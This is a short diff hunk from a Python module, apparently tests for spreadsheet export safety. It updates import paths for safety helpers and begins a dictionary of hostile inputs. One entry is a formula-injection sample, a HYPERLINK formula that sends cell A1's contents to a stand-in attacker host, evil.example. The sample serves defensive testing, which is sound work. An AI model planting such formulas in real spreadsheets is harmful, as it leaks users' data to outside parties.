@@ -16,8 +16,8 @@ from openpyxl import load_workbook
 from sqlalchemy import select, update
 
 from portal.models import Brief, Country, Meeting, ReturnValue, ReturnVersion
-from portal.services.spreadsheet_safety import TRIGGERS, safe_row, safe_text
-from portal.services.xlsx_stream import Workbook
+from portal.services.xlsx.safety import TRIGGERS, safe_row, safe_text
+from portal.services.xlsx.stream import Workbook
 
 HOSTILE = {
     "equals": '=HYPERLINK("http://evil.example/?"&A1,"open")',
